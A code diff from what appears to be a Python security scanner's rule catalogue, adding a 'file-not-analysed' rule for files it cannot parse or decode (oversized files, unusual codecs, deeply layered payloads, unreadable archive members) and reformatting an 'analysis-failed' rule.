-  { id: 'analysis-failed', name: 'Analysis failed', family: 'unaudited', severity: 'medium', catches: 'The analysis of one file stopped with an error (a budget exceeded, a construct too deep to walk): that file is reported, the other files of the target are still analysed.', example: 'a.b.b.b (50 000 attributes deep) = 1', falsePositives: 'None: the file was not analysed.' },
+  {
+    id: 'file-not-analysed',
+    name: 'File not analysed',
+    family: 'unaudited',
+    severity: 'medium',
+    catches:
+      'A file pyguard could not analyse as Python would read it: over the 16 MiB parse limit, parsing stopped by its time budget, a coding cookie naming a codec that cannot be decoded faithfully here (hz, johab, iso2022_kr with non-ASCII bytes; an unresolvable \\N{...} under unicode_escape), a payload decoded more than 3 layers deep, the decoding budget of the target spent, or an archive member whose bytes were not read (size limit, unsupported compression, bad CRC).',
+    example: '# coding: hz  (with ~{ shift sequences)',
+    falsePositives: 'Huge generated modules (tables, vendored bundles) over the parse limit.',
+  },
+  {
+    id: 'analysis-failed',
+    name: 'Analysis failed',
+    family: 'unaudited',
+    severity: 'medium',
+    catches:
+      'The analysis of one file stopped with an error (a budget exceeded, a construct too deep to walk): that file is reported, the other files of the target are still analysed.',
+    example: 'a.b.b.b (50 000 attributes deep) = 1',
+    falsePositives: 'None: the file was not analysed.',
+  },
 ];
 
 /** Every rule: those about code, then those about a target as a whole (archives, packages, metadata, known malware). */
